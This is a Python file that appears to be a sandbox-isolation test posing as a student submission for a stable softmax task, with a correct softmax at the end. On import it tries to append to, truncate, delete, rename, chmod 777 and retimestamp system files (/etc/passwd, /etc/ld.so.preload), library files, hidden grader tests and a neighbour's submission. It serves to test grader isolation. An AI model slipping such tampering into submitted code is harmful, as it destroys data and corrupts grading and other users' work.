"""Right answers, and attempts to change files of the machine, the content, the neighbours and the libraries.

tiers: full locked
"""

import contextlib
import math
import os
import numpy
import shutil

TARGETS = ["@CONTENT@/canary.txt", "@PROJECT@/canary.txt", "@HOME@/canary.txt", "@SUBMISSIONS@/canary.txt", numpy.__file__]
TARGETS += ["@CONTENT@/solutions/information_theory/stable_softmax/test_hidden.py", "@CHECKOUT@/pyproject.toml", "/etc/passwd"]
TARGETS += ["@SUBMISSIONS@/001-neighbour/stable_softmax.py", os.__file__, "/etc/ld.so.preload", "/etc/ld.so.cache"]
for target in TARGETS:
    for attempt in (
        lambda: open(target, "a").write("# left behind\n"),
        lambda: os.truncate(target, 0),
        lambda: os.unlink(target),
        lambda: os.rename(target, target + ".left-behind"),
        lambda: os.chmod(target, 0o777),
        lambda: os.utime(target, (0, 0)),
        lambda: shutil.rmtree(os.path.dirname(target)) if "canary" in target else None,
    ):
        with contextlib.suppress(OSError):
            attempt()


def softmax(x):
    top = max(x)
    powers = [math.exp(value - top) for value in x]
    return [power / sum(powers) for power in powers]
